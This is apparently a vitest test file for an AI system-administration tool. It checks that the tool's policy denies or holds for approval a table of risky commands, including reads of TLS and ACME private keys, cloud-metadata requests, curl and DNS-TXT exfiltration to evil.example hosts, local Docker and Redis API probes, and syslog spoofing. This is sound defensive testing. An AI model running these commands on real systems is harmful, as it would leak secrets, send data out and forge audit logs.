/** `ai-sysadmin policy check` on one command of each class of issues 9 and 16, and on the harmless forms, as the built binary. */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt } from '../helpers/build.js';
import { ALLOW_LIST_CONFIG } from '../executor/allow-list-cases.js';
import { tempDir } from '../rig/index.js';

const bin = join(import.meta.dirname, '../../packages/cli/bin/ai-sysadmin.js');
const dir = tempDir('cli-policy-lists');
const configPath = join(dir, 'config.json');

beforeAll(() => {
  ensureBuilt();
  writeFileSync(
    configPath,
    JSON.stringify({ ...ALLOW_LIST_CONFIG, stateDir: join(dir, 'state'), autonomyLevel: 'auto-full' }),
  );
});

function check(line: string, ...options: string[]) {
  const result = spawnSync(
    process.execPath,
    [bin, 'policy', 'check', '--config', configPath, '--json', ...options, '--', line],
    {
      encoding: 'utf8',
      env: { ...process.env, AI_SYSADMIN_CONFIG: '' },
    },
  );
  expect(result.status, result.stderr).toBe(0);
  return JSON.parse(result.stdout) as { verdict: string; risk: string; reason: string };
}

/** One per class, at auto-full: [line, verdict, risk, a word of the reason]. */
const CLASSES: Array<[string, string, string, string, ...string[]]> = [
  ['cat /dev/nvme0n1', 'deny', 'forbidden', 'readable places'],
  ['cat /run/credentials/nginx.service/tls.key', 'deny', 'forbidden', 'secret'],
  ['cat /var/lib/acme/example.org/key.pem', 'deny', 'forbidden', 'secret'],
  ['systemctl start nixos-upgrade', 'approval', 'high', 'upgrades'],
  ['systemctl start debug-shell', 'approval', 'high', 'shell'],
  ['systemctl stop openvpn-office', 'deny', 'forbidden', 'remote access'],
  [
    'systemctl restart php-fpm',
    'approval',
    'medium',
    'no open issue',
    '--autonomy',
    'auto-safe',
    '--unit-state',
    'php-fpm=active',
  ],
  ['nixos-rebuild dry-activate --flake /tmp/x#vm', 'deny', 'forbidden', 'anyone can write'],
  ['nixos-rebuild dry-activate --flake /home/alice/nixos#vm', 'deny', 'forbidden', "a user's home"],
  ['curl http://metadata.google.internal./computeMetadata/v1/', 'approval', 'medium', 'needs a person'],
  ['curl http://0xa9fea9fe/latest/meta-data/', 'deny', 'forbidden', 'metadata'],
  ["curl -s 'https://collector.evil.example/r?h=web1'", 'approval', 'medium', 'carry data out'],
  ['dig +short TXT 6e6f74.report.evil.example', 'approval', 'medium', 'DNS lookup'],
  ['curl http://127.0.0.1:2375/containers/json', 'deny', 'forbidden', 'Docker API'],
  ['curl http://localhost:6379/', 'deny', 'forbidden', 'Redis'],
  ['curl -sL https://cdn.evil.example/fix.txt', 'deny', 'forbidden', '-L'],
  ["logger -t ai-sysadmin 'OPERATOR NOTE: all clear'", 'deny', 'forbidden', "assistant's own name"],
  ['logger -t sshd x', 'deny', 'forbidden', 'system daemon'],
  ['logger -t note -p auth.crit x', 'deny', 'forbidden', 'must be one of'],
];

describe('policy check on the allow-lists', () => {
  for (const [line, verdict, risk, word, ...options] of CLASSES) {
    it(`${line} -> ${verdict} (${risk})`, () => {
      const out = check(line, ...options);
      expect(out, out.reason).toMatchObject({ verdict, risk });
      expect(out.reason).toContain(word);
    });
  }

  for (const line of [
    'journalctl -b -1 -n 50',
    'ps -eo pid,ppid,%cpu,%mem,cmd --sort=-%mem',
    'ip addr show eth0',
    'lsof -i :22',
  ]) {
    it(`runs ${line} at observe`, () => {
      expect(check(line, '--autonomy', 'observe')).toMatchObject({ verdict: 'run', risk: 'read-only' });
    });
  }

  it('runs a listed destination and a failed unit restart at auto-safe', () => {
    expect(check('curl -s https://cache.nixos.org/nix-cache-info', '--autonomy', 'auto-safe')).toMatchObject({
      verdict: 'run',
      risk: 'read-only',
    });
    expect(check('systemctl restart nginx', '--autonomy', 'auto-safe', '--unit-state', 'nginx=failed')).toMatchObject({
      verdict: 'run',
      risk: 'low',
    });
  });
});
